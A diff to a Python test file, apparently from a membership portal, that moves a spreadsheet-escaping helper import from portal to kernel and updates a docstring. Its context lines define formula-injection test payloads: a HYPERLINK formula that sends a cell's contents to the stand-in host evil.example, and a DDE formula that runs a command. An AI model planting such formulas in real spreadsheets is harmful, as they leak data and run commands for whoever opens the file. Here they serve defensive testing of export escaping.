@@ -22,7 +22,7 @@ from members import excel
 from members.factories import MemberFactory
 from pairing.factories import ContributionFactory, UnitFactory
 from portal.factories import RectificationFactory
-from portal.xlsx import FORMULA_STARTS
+from kernel.xlsx import FORMULA_STARTS
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
 DDE = "=cmd|' /C calc'!A0"
@@ -134,7 +134,7 @@ def test_unit_feedback_report(world, client_as):
 
 
 def test_every_workbook_is_written_through_the_one_helper():
-    """A new export cannot forget the escaping: only portal/xlsx.py makes workbooks."""
+    """A new export cannot forget the escaping: only kernel/xlsx.py makes workbooks."""
     allowed = {ROOT / "portal" / "xlsx.py",
                # Writes a test file for the import benchmark, never served to anybody.
                ROOT / "members" / "management" / "commands" / "bench_import.py"}
